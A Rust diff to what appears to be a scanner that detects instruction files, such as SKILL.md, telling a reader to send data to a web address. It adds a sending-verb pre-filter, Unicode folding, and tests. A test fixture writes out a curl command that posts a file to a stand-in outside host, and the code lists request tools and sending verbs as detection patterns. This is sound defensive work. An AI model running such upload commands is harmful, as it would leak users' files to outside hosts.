@@ -11,6 +11,7 @@ use capdex_evidence::document::Document;
 use capdex_evidence::lexicon::SECRET;
 use capdex_evidence::sentences::Words;
 use capdex_evidence::subject::Subject;
+use capdex_evidence::unicode;
 use capdex_evidence::words;
 use capdex_evidence::zones::ZoneKind;
 use capdex_model::fact::{Confidence, Severity};
@@ -38,7 +39,7 @@ static OUGHT: LazyLock<Regex> = LazyLock::new(|| {
 });
 
 /// Verbs of sending, in the form of an order or as what is to be done.
-const SENDS: Words = Words::of(&[
+const SENDING: &[&str] = &[
     "send",
     "sent",
     "sending",
@@ -82,7 +83,8 @@ const SENDS: Words = Words::of(&[
     "ping",
     "notify",
     "attach",
-]);
+];
+const SENDS: Words = Words::of(SENDING);
 
 /// Words before a noun: "the report" reports nothing.
 const BEFORE_NOUN: Words = Words::of(&[
@@ -179,7 +181,9 @@ const WORK: Words = Words::of(&[
 pub(in super::super) fn check(subject: &Subject<'_>, facts: &mut FactSink<'_>) {
     let mut destinations = None;
     for document in instructions(subject) {
-        let places = questions::PASSAGES_ADDRESSED.all_in(document, PLACES);
+        let mut places = questions::PASSAGES_ADDRESSED.all_in(document, PLACES);
+        places.retain(|place| may_receive(document, place.start));
+        // Many end here, before the text is taken apart into sentences.
         if places.is_empty() {
             continue;
         }
@@ -192,6 +196,33 @@ pub(in super::super) fn check(subject: &Subject<'_>, facts: &mut FactSink<'_>) {
         let confidence = if severity >= Severity::High { Confidence::Medium } else { Confidence::Low };
         facts.found_as(severity, confidence, document.place(passage.bytes.start), passage.sentence.as_str());
     }
+}
+
+/// False for an address before which no sentence, nor one that leads in its block, has a verb of sending.
+fn may_receive(document: &Document, address: usize) -> bool {
+    let zone = document.zones.partition_point(|zone| zone.end <= address);
+    let block = document.zones.get(zone).filter(|zone| zone.kind == ZoneKind::CodeBlock && zone.start <= address);
+    speaks_before(&document.text, address) || block.is_some_and(|block| speaks_before(&document.text, block.start))
+}
+
+/// True where the last words before a place may hold a verb of sending, to the beginning of their paragraph.
+fn speaks_before(text: &str, place: usize) -> bool {
+    /// A sentence that goes on for longer may hold anything.
+    const REACH: usize = 2_000;
+    static VERB: LazyLock<Regex> =
+        LazyLock::new(|| capdex_evidence::expression::of(&format!(r"(?i)\b(?:{})\b", SENDING.join("|"))));
+    let low = text.floor_char_boundary(place.saturating_sub(REACH));
+    let Some(before) = text.get(low..place) else { return true };
+    // A block begins behind a blank line, which ends no sentence of what leads it in.
+    let said = before.trim_end();
+    let paragraph = match said.rfind("\n\n") {
+        Some(end) => said.get(end..).unwrap_or(said),
+        None if low > 0 => return true,
+        None => said,
+    };
+    // Words are read with their deceptions undone.
+    let folded = unicode::fold(paragraph);
+    VERB.is_match(folded.as_ref().map_or(paragraph, |folded| &folded.text))
 }
 
 /// The passages that name an address, or stand right before a block that does.
@@ -321,4 +352,25 @@ fn fenced_address<'a>(passage: &Passage<'a>) -> Option<&'a str> {
     let asks = ["curl", "wget", "requests.", "httpx.", "http.", "fetch(", "POST", "urlopen", "axios", "Invoke-"];
     let asks = asks.iter().any(|word| block.contains(word));
     asks.then(|| ADDRESS.find(block).map(|found| found.as_str())).flatten()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn an_address_without_a_verb_of_sending_before_it_is_told_beforehand() {
+        for (text, expected) in [
+            ("Send it to https://in.test/a", true),
+            ("Se\u{200b}nd it to https://in.test/a", true),
+            ("Read https://in.test/a\nand upload it", false),
+            ("Upload it.\n\nSee https://in.test/a", false),
+            ("Upload it:\n\n```bash\ncurl -d @x https://in.test/a\n```\n", true),
+            ("Look at it:\n\n```bash\ncurl https://in.test/a\n```\n", false),
+        ] {
+            let document = Document::read("SKILL.md", text.as_bytes(), &mut Vec::new());
+            let place = document.text.find("https").expect("an address");
+            assert_eq!(may_receive(&document, place), expected, "{text}");
+        }
+    }
 }
